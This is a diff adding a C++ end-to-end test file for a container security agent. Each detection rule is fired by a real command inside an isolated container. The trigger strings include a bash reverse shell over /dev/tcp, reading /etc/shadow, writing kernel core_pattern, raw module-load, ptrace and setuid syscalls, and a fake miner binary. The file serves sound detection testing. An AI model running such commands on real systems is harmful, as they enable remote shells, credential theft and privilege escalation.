@@ -1,0 +1,127 @@
+// Every built-in detection rule, fired by a real action inside a real container and seen
+// through the real sensor, with the evidence that names it; and ordinary work that raises
+// none. The container has its own network namespace with a second address on its loopback
+// device (10.77.0.1), so "outbound" connections to a non-loopback address stay inside it.
+
+#include "agent_fixture.h"
+#include "runtime/rules/rule.h"
+#include "support/testbed.h"
+
+namespace bulkhead::agent::testing {
+namespace {
+
+struct Trigger {
+  const char* rule;
+  const char* script;      // sh -c, inside the container
+  const char* evidenceKey;  // a field of the alert's evidence to check, or nullptr
+  const char* evidence;     // its expected value (a prefix)
+};
+
+#if defined(__x86_64__)
+#define NR_FINIT_MODULE "313"
+#define NR_PTRACE "101"
+#define NR_SETUID "105"
+#elif defined(__aarch64__)
+#define NR_FINIT_MODULE "273"
+#define NR_PTRACE "117"
+#define NR_SETUID "146"
+#endif
+
+// perl-base (essential in Debian) makes raw system calls; python3-minimal has no ctypes.
+const Trigger kTriggers[] = {
+    {"BH-RT-0001",
+     "socat TCP-LISTEN:9001,bind=10.77.0.1,reuseaddr EXEC:'sleep 3' & sleep 0.5; "
+     "timeout 2 bash -c 'exec bash -i </dev/tcp/10.77.0.1/9001 >&0 2>&0'; wait",
+     "kind", "exec"},
+    {"BH-RT-0002", "timeout 2 bash -c 'exec 3<>/dev/tcp/10.77.0.1/9002'; true", "port", nullptr},
+    {"BH-RT-0003",
+     "python3 -c 'import socket,os; s=socket.socket(); s.bind((\"127.0.0.1\",8083)); s.listen(); os.system(\"sleep 1\")'",
+     "kind", "exec"},
+    {"BH-RT-0004", "dpkg --version >/dev/null", "path", "/usr/bin/dpkg"},
+    {"BH-RT-0005", "touch /usr/bin/e2e-dropped; rm -f /usr/bin/e2e-dropped", "path", "/usr/bin/e2e-dropped"},
+    {"BH-RT-0006", "touch /usr/lib/e2e-dropped.so; rm -f /usr/lib/e2e-dropped.so", "path", "/usr/lib/e2e-dropped.so"},
+    {"BH-RT-0007", "cat /etc/shadow >/dev/null", "path", "/etc/shadow"},
+    {"BH-RT-0008", "su -s /bin/sh -c 'sleep 1' root", "path", "/usr/bin/su"},
+    {"BH-RT-0009", "timeout 1 socat TCP-LISTEN:7072,reuseaddr - ; true", "kind", "listen"},
+    {"BH-RT-0010",
+     "python3 -c 'import socket; s=socket.socket(); s.settimeout(1); s.connect_ex((\"10.77.0.1\",8080))'", "address",
+     "10.77.0.1"},
+    {"BH-RT-0011", "mount -t tmpfs none /mnt 2>/dev/null; true", "kind", "mount"},
+    {"BH-RT-0012", "unshare --user true 2>/dev/null; true", nullptr, nullptr},
+    {"BH-RT-0013", "(echo core >/proc/sys/kernel/core_pattern) 2>/dev/null; true", "path", "/proc/sys/kernel/core_pattern"},
+    {"BH-RT-0014",
+     "socat UNIX-LISTEN:/run/docker.sock,fork /dev/null & sleep 0.5; echo x | socat - UNIX-CONNECT:/run/docker.sock; "
+     "kill $!; true",
+     "address", "/run/docker.sock"},
+    {"BH-RT-0015", "perl -e 'my $p = \"\"; syscall(" NR_FINIT_MODULE ", -1, $p, 0)'", "kind", "module"},
+    {"BH-RT-0016", "sleep 2 & perl -e 'syscall(" NR_PTRACE ", 16, $ARGV[0], 0, 0)' $!; kill $!; true", "kind", "ptrace"},
+    {"BH-RT-0017", "cp /usr/bin/sleep /tmp/xmrig && /tmp/xmrig 0.2; rm -f /tmp/xmrig", "path", "/tmp/xmrig"},
+    {"BH-RT-0018",
+     "python3 -c 'import socket; s=socket.socket(); s.settimeout(1); s.connect_ex((\"10.77.0.1\",3333))'", "port", nullptr},
+    {"BH-RT-0019", "setpriv --reuid=65534 --regid=65534 --clear-groups perl -e 'syscall(" NR_SETUID ", 0)'", "kind",
+     "setuid"},
+};
+
+class AgentRules : public AgentE2e {
+ protected:
+  void SetUp() override {
+    AgentE2e::SetUp();
+    if (IsSkipped() || HasFatalFailure()) return;
+    // Monitor with an empty profile: rules apply in every mode, and "new" listening ports
+    // and peers are new to a profile in force.
+    startAgent(runtime::Mode::kMonitor);
+    container_ = run("bulkhead-test/rules:1");
+    ASSERT_TRUE(container_);
+    const std::string pid = std::to_string(container_->pid());
+    auto r = bulkhead::testing::runCommand({"nsenter", "-t", pid, "-n", "ip", "addr", "add", "10.77.0.1/32", "dev", "lo"});
+    ASSERT_EQ(r.exitCode, 0) << r.err;
+  }
+  std::unique_ptr<bulkhead::testing::RuncContainer> container_;
+};
+
+TEST_F(AgentRules, EachRuleFiresOnARealAction) {
+  auto rules = runtime::loadRules({});
+  ASSERT_TRUE(rules) << rules.error().message;
+  std::set<std::string> covered;
+  for (const auto& t : kTriggers) {
+    SCOPED_TRACE(t.rule);
+    covered.insert(t.rule);
+    const size_t from = log_->size();
+    const auto r = sh(*container_, t.script);
+    auto alert = log_->waitFor(ruleAlert(t.rule, container_->id()), from);
+    ASSERT_TRUE(alert) << "no alert for: " << t.script << "\nexit " << r.exitCode << ": " << r.out << r.err;
+    EXPECT_EQ((*alert)["mode"], "monitor");
+    EXPECT_FALSE((*alert)["mitre"].empty());
+    EXPECT_EQ((*alert)["group"], groupOf("bulkhead-test/rules:1"));
+    if (t.evidenceKey != nullptr) {
+      const json& evidence = (*alert)["evidence"];
+      ASSERT_TRUE(evidence.contains(t.evidenceKey)) << alert->dump();
+      if (t.evidence != nullptr) {
+        EXPECT_EQ(evidence[t.evidenceKey].get<std::string>().rfind(t.evidence, 0), 0u) << alert->dump();
+      }
+    }
+  }
+  for (const auto& rule : *rules) EXPECT_TRUE(covered.contains(rule.id)) << rule.id << " has no real trigger here";
+}
+
+// Ordinary work (reading, writing scratch files, a loopback request to a local server)
+// raises profile deviations in Monitor, never a detection rule.
+TEST_F(AgentRules, OrdinaryWorkRaisesNoRuleAlert) {
+  const size_t from = log_->size();
+  const auto r = sh(*container_,
+                    "cat /etc/hostname /etc/passwd >/dev/null; ls -l /usr/bin >/dev/null; echo x >/tmp/scratch; "
+                    "mkdir -p /var/cache/app && echo y >/var/cache/app/data; "
+                    "socat TCP-LISTEN:8089,bind=127.0.0.1,reuseaddr SYSTEM:'echo hi' & sleep 0.5; "
+                    "socat - TCP:127.0.0.1:8089 </dev/null; wait; id -u");
+  ASSERT_EQ(r.exitCode, 0) << r.err;
+  // Something was seen (the deviations of an empty profile), so silence means something.
+  ASSERT_TRUE(log_->waitFor(profileAlert("exec", container_->id()), from));
+  std::this_thread::sleep_for(std::chrono::seconds(1));
+  for (const auto& a : log_->all([](const json& j) { return j.contains("rule"); }, from)) {
+    if (a["rule"] == "BH-RT-0009") continue;  // 8089 is a new listening port: that one is right
+    ADD_FAILURE() << "ordinary work raised " << a.dump();
+  }
+}
+
+}  // namespace
+}  // namespace bulkhead::agent::testing
